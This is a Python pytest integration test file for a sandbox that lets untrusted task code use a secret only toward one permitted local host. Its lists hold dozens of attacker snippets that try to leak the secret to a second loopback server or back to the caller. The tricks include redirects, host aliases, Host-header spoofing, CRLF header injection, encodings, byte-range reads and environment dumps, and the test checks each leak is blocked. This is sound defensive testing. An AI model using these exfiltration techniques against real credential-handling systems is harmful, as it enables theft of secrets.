"""An attacker in the sandbox who has read our source, and a secret that it may use and not read.

Two servers listen on loopback. The secret is for one of them, and both may be reached: the other
must never see its value, and the sandbox must not, whatever the first sends back.
"""

from __future__ import annotations

import base64
import json
from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from capsule import run_sync
from tests.integration.echo_server import ANSWERS, EchoServer

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from capsule import Envelope

pytestmark = pytest.mark.integration

# With what URLs, JSON, HTML and base64 all write differently.
VALUE = "v4l/ue+Nobody \"may\" <see> & 'tell' 100%"

SOURCE = """
import base64, http.client, json, os, urllib.error, urllib.parse, urllib.request
from capsule import task
from capsule_guest import calls
K = os.environ.get("KEY", "")
def fetch(url, headers={}, data=None, method=None):
    request = urllib.request.Request(url, data, headers, method=method)
    try:
        answer = urllib.request.urlopen(request, timeout=10)
    except urllib.error.HTTPError as error:
        answer = error
    return [answer.status, answer.reason, answer.headers.items(), answer.read().decode("latin-1")]
def basic(text): return "Basic " + base64.b64encode(text.encode()).decode()
def ask(method, url, headers, **more):
    asked = {"method": method, "url": url, "headers": headers, **more}
    number = calls.call("http.open", asked)[0]["id"]
    head = calls.call("http.answer", {"id": number})
    return [head, calls.call("http.read", {"id": number, "most": 65536})]
def raw(host, port, method, path, headers, body=None, **more):
    connection = http.client.HTTPConnection(host, port, timeout=10)
    connection.request(method, path, body, headers, **more)
    answer = connection.getresponse()
    return [answer.status, answer.reason, answer.getheaders(), answer.read().decode("latin-1")]
@task(allowed_hosts=["localhost", "127.0.0.1", "*.localhost", "[::1]"], timeout="60s", compute="HIGH")
def main(code, mine, other):
    MINE, OTHER = f"http://localhost:{mine}", f"http://localhost:{other}"
    if code.startswith("raise "):
        raise ValueError(eval(code[6:]))
    try:
        return "done: " + repr(eval(code))
    except BaseException as error:
        return "raised: " + repr(error) + repr(getattr(error, "args", ""))
@task(name="below", allowed_hosts=["localhost"])
def below(url, key): return [dict(os.environ), fetch(url, {"X-Key": key})]
"""

# What must reach nobody with the value in it.
ELSEWHERE = {
    "a bearer token": "fetch(OTHER, {'Authorization': 'Bearer ' + K})",
    "Basic": "fetch(OTHER, {'Authorization': basic('me:' + K)})",
    "a header of its own": "fetch(OTHER, {'X-Key': K})",
    "a cookie": "fetch(OTHER, {'Cookie': 's=' + K})",
    "a referrer": "fetch(OTHER, {'Referer': f'{MINE}/?k={K}'})",
    "the query": "fetch(OTHER + '/?k=' + K)",
    "a redirect with its headers": "fetch(f'{MINE}/to/{OTHER}/', {'X-Key': K, 'Authorization': 'Bearer ' + K})",
    "a redirect with its query": "fetch(f'{MINE}/to/{OTHER}/?k={K}')",
    "a redirect that bears the value": "fetch(f'{MINE}/to/{OTHER}/?k=VALUE', {'X-Key': K})",
    "two redirects": "fetch(f'{OTHER}/to/{MINE}/to/{OTHER}/', {'X-Key': K})",
    "another name of the host": "fetch(f'http://127.0.0.1:{mine}/', {'X-Key': K})",
    "another address of it": "fetch(f'http://127.0.0.2:{mine}/', {'X-Key': K})",
    "IPv6": "fetch(f'http://[::1]:{mine}/', {'X-Key': K})",
    "a name below": "fetch(f'http://a.localhost:{mine}/', {'X-Key': K})",
    "a dot at its end": "fetch(f'http://localhost.:{mine}/', {'X-Key': K})",
    "a user that looks like the host": "fetch(f'http://localhost:{mine}@localhost:{other}/', {'X-Key': K})",
    "the other's Host header": "ask('GET', OTHER + '/', [['Host', f'localhost:{mine}'], ['X-Key', K]])",
    "a URL in the target": "raw('localhost', other, 'GET', f'{MINE}/?k={K}', {'X-Key': K})",
    "a tunnel": "(lambda c: (c.set_tunnel('localhost', other), c.request('GET', '/', headers={'X-Key': K})))(http.client.HTTPConnection('localhost', mine))",
    "hosts that the call names": "ask('GET', OTHER + '/', [['X-Key', K]], hosts=['localhost'], secrets=['*'])",
    "a task that it calls": "below(OTHER, K)",
}
# Where it has no business at the host that it is for either.
MISPLACED = {
    "a user name": "fetch(f'http://me:{K}@localhost:{mine}/')",
    "the path": "fetch(f'{MINE}/a/{K}/b')",
    "a parameter of the path": "fetch(f'{MINE}/a;k={K}/b')",
    "a fragment": "fetch(f'{MINE}/#{K}')",
    "the body": "fetch(MINE + '/', {'X-Key': '-'}, K.encode())",
    "a body in chunks": "fetch(MINE + '/', {'X-Key': '-'}, iter([K[:20].encode(), K[20:].encode()]))",
    "a form": "fetch(MINE + '/', {}, urllib.parse.urlencode({'k': K}).encode())",
    "a header's name": "fetch(MINE + '/', {'X-' + K: 'yes'})",
    "the method": "fetch(MINE + '/', method=K)",
    "the Host header": "ask('GET', MINE + '/', [['Host', K]])",
    "the length": "ask('POST', MINE + '/', [['Content-Length', K]])",
    "the framing": "ask('POST', MINE + '/', [['Transfer-Encoding', K]])",
    "a header of the connection": "ask('GET', MINE + '/', [['Connection', K], ['Keep-Alive', K], ['TE', K], ['Trailer', K]])",
    "a header of a proxy": "ask('GET', MINE + '/', [['Proxy-Authorization', 'Bearer ' + K]])",
    "half of it in each of two headers": "fetch(MINE + '/', {'X-A': K[:20], 'X-B': K[20:]})",
    "capital letters": "fetch(MINE + '/', {'X-Key': K.upper()})",
    "encoded letters": "fetch(MINE + '/?k=' + ''.join(f'%{ord(c):02x}' for c in K))",
    "backwards": "fetch(MINE + '/', {'X-Key': K[::-1]})",
    "base64 elsewhere": "fetch(MINE + '/', {'X-Key': base64.b64encode(K.encode()).decode()})",
    "base64 twice": "fetch(MINE + '/', {'Authorization': basic(base64.b64encode(K.encode()).decode())})",
    "a line break behind it": "ask('GET', MINE + '/', [['X-Key', K + '\\r\\nX-Other: 1']])",
    "a guess": "fetch(MINE + '/', {'X-Key': 'capsule-secret-' + '0' * 32})",
    "more of them than a request may have": "fetch(MINE + '/', {'X-Key': K * 9})",
}
# What comes back from the host that has it.
BACK = {
    **{f"in a query: {name}": f"fetch(f'{{MINE}}/{name}?k={{K}}')" for name in ANSWERS},
    **{f"in a header: {name}": f"fetch(f'{{MINE}}/{name}', {{'X-Key': K}})" for name in ANSWERS},
    "as a bearer": "fetch(MINE + '/all', {'Authorization': 'Bearer ' + K})",
    "as Basic": "fetch(MINE + '/all', {'Authorization': basic('me:' + K)})",
    "as Basic, two letters on": "fetch(MINE + '/all', {'Authorization': basic('mine:' + K)})",
    "as Basic, one letter on": "fetch(MINE + '/all', {'Authorization': basic('m:' + K + ':z')})",
    "as a user of Basic": "fetch(MINE + '/all', {'Authorization': basic(K + ':')})",
    "one in the other": "fetch(MINE + '/all', {'X-Key': K[:20] + K + K[20:]})",
    "one behind the other": "fetch(MINE + '/all', {'X-Key': K + K})",
    "in the head alone": "fetch(MINE + '/header?k=' + K, method='HEAD')",
    "as a length": "[ask(m, MINE + '/header?k=' + K, [])[0] for m in ('HEAD', 'GET')]",
    "in a redirect": "fetch(MINE + '/sub/', {'X-Key': K})",
    "in a redirect that nobody follows": "ask('GET', MINE + '/to/https://localhost/VALUE', [['X-Key', K]])",
    "letter by letter": "''.join([fetch(MINE + '/ranges', {'X-Key': K, 'Range': f'bytes={n}-{n}'})[3][:1] for n in range(39)])",
    "in parts": "[fetch(MINE + '/ranges', {'X-Key': K, 'range': r})[3] for r in ('bytes=0-9', 'bytes=10-99')]",
    "packed, as it asks for": "fetch(MINE + '/all?k=' + K, {'Accept-Encoding': 'gzip, br'})",
    "in an error": "raise 'it was ' + K + repr(fetch(MINE + '/plain?k=' + K))",
    "in all variables": "dict(os.environ)",
    "from a task that it calls": "below(MINE + '/all', K)",
    "in what is printed": "print(K, fetch(MINE + '/json?k=' + K))",
}


@pytest.fixture(autouse=True)
def surroundings(monkeypatch: pytest.MonkeyPatch, toolchain_home: Path) -> None:
    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "NO_PROXY"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.lower(), raising=False)
    monkeypatch.setenv("CAPSULE_HOME", str(toolchain_home))


@pytest.fixture(scope="module")
def task_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("project") / "task.py"
    path.write_text(SOURCE)
    return path


@pytest.fixture
def mine() -> Iterator[EchoServer]:
    server = EchoServer()
    yield server
    server.close()


@pytest.fixture
def other() -> Iterator[EchoServer]:
    server = EchoServer()
    yield server
    server.close()


def attempt(task_file: Path, code: str, mine: EchoServer, other: EchoServer) -> Envelope:
    return run_sync(
        task_file,
        [code, mine.port, other.port],
        cwd=task_file.parent,
        secrets={"KEY": {"value": VALUE, "hosts": [f"localhost:{mine.port}"]}},
    )


def traces(text: bytes) -> list[str]:
    """What of the value is in a text, as it is or in another form: parts of it are enough."""
    inner = VALUE.encode()
    forms = {
        "capitals": VALUE.upper().encode(),
        "backwards": inner[::-1],
        "hex": inner.hex().encode(),
    }
    forms |= {f"from {at}": inner[at : at + 7] for at in range(len(inner) - 6)}
    forms |= {
        f"quoted from {at}": quote(VALUE[at : at + 7]).encode() for at in range(len(inner) - 6)
    }
    for cut in range(3):
        forms[f"base64 from {cut}"] = base64.b64encode(inner[cut : cut + 6])
    return [name for name, form in forms.items() if form.lower() in text.lower()]


def sent_back(envelope: Envelope) -> bytes:
    """All that a caller, and whoever wrote the task, can see of a run."""
    text = json.dumps(envelope)
    return text.encode() + repr(envelope.result).encode() + str(envelope.error).encode()


@pytest.mark.parametrize("code", [pytest.param(c, id=n) for n, c in ELSEWHERE.items()])
def test_the_value_goes_nowhere_else(
    task_file: Path, mine: EchoServer, other: EchoServer, code: str
) -> None:
    envelope = attempt(task_file, code, mine, other)
    assert envelope.success, envelope
    assert traces(other.all_seen) == []
    assert traces(sent_back(envelope)) == []


@pytest.mark.parametrize("code", [pytest.param(c, id=n) for n, c in MISPLACED.items()])
def test_the_value_is_put_in_nowhere_else(
    task_file: Path, mine: EchoServer, other: EchoServer, code: str
) -> None:
    envelope = attempt(task_file, code, mine, other)
    assert envelope.success, envelope
    assert traces(mine.all_seen + sent_back(envelope)) == []


@pytest.mark.parametrize("code", [pytest.param(c, id=n) for n, c in BACK.items()])
def test_the_value_does_not_come_back(
    task_file: Path, mine: EchoServer, other: EchoServer, code: str
) -> None:
    envelope = attempt(task_file, code, mine, other)
    assert envelope.error is None or envelope.error["error_type"] == "task_error"
    assert traces(sent_back(envelope)) == []
    if "MINE" in code:
        # It was there, to be sent back.
        assert any(traces(mine.all_seen))
